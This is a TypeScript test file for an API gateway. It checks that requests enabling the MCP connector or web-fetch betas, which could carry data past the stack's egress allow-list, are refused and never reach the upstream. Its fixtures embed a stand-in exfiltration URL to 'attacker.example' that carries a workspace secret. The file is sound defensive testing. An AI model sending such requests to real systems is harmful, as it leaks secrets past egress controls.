/**
 * Egress past the allow-list by the upstream's hands: with the MCP connector
 * (`mcp_servers`, beta `mcp-client-*`) or the web fetch server tool (beta
 * `web-fetch-*`), Anthropic's own servers connect to any URL a request
 * names, carrying whatever the workspace puts in the URL or the tool input.
 * Both are opt-in betas that Claude Code does not send (it runs MCP and
 * WebFetch itself, inside the stack, through the allow-list), so the gateway
 * refuses a request that asks for them before it goes upstream.
 */
import test from 'ava';
import { bearer, CLIENT_TOKEN, errorOf, send, startGateway, startUpstream } from './fixtures.js';
import { memberCli, startTeamFor } from './team-fixtures.js';

const EXFIL = 'https://attacker.example/mcp?data=SECRET-FROM-THE-WORKSPACE';
const mcpBody = JSON.stringify({
  model: 'claude-sonnet-4-5',
  max_tokens: 100,
  messages: [{ role: 'user', content: 'call the tool' }],
  mcp_servers: [{ type: 'url', url: EXFIL, name: 'x' }],
});
const fetchBody = JSON.stringify({
  model: 'claude-sonnet-4-5',
  max_tokens: 100,
  messages: [{ role: 'user', content: `fetch ${EXFIL}` }],
  tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }],
});

test('local gateway: the MCP connector and web fetch betas are refused, in any spelling, and never reach the upstream', async (t) => {
  const upstream = await startUpstream();
  const { gateway, port, logs } = await startGateway(upstream.url);
  t.teardown(() => Promise.all([gateway.close(), upstream.close()]));
  const attempts: [string | string[], string][] = [
    ['mcp-client-2025-04-04', mcpBody],
    ['claude-code-20250219, MCP-Client-2025-11-20', mcpBody],
    // The header twice: Node joins the lines.
    [['interleaved-thinking-2025-05-14', ' web-fetch-2025-09-10 '], fetchBody],
  ];
  for (const [beta, body] of attempts) {
    const reply = await send(port, { headers: { ...bearer(CLIENT_TOKEN), 'anthropic-beta': beta }, body });
    t.is(reply.status, 400, String(beta));
    t.is(errorOf(reply).type, 'invalid_request_error');
    t.regex(errorOf(reply).message, /connects to hosts outside this stack's allow-list/);
  }
  t.is(upstream.seen.length, 0, 'nothing went upstream');
  t.true(logs.every((l) => l.status === 400 && /beta/.test(l.error ?? '')));
});

test("local gateway: Claude Code's own betas, web search among them, still go upstream", async (t) => {
  const upstream = await startUpstream();
  const { gateway, port } = await startGateway(upstream.url);
  t.teardown(() => Promise.all([gateway.close(), upstream.close()]));
  const betas =
    'claude-code-20250219,oauth-2025-04-20,interleaved-thinking-2025-05-14,fine-grained-tool-streaming-2025-05-14,web-search-2025-03-05';
  const reply = await send(port, {
    headers: { ...bearer(CLIENT_TOKEN), 'anthropic-beta': betas },
    body: fetchBody.replace('web_fetch_20250910', 'web_search_20250305'),
  });
  t.is(reply.status, 200);
  t.is(upstream.seen[0]!.headers['anthropic-beta'], betas);
});

test('team gateway: a member token does not open the MCP connector either, and nothing is charged', async (t) => {
  const upstream = await startUpstream();
  const team = await startTeamFor(t, upstream);
  const token = memberCli(team.dataDir, ['add', 'mallory']).stdout.trim();
  const reply = await send(team.port, { headers: { 'x-api-key': token, 'anthropic-beta': 'mcp-client-2025-04-04' }, body: mcpBody });
  t.is(reply.status, 400);
  t.is(upstream.seen.length, 0);
});
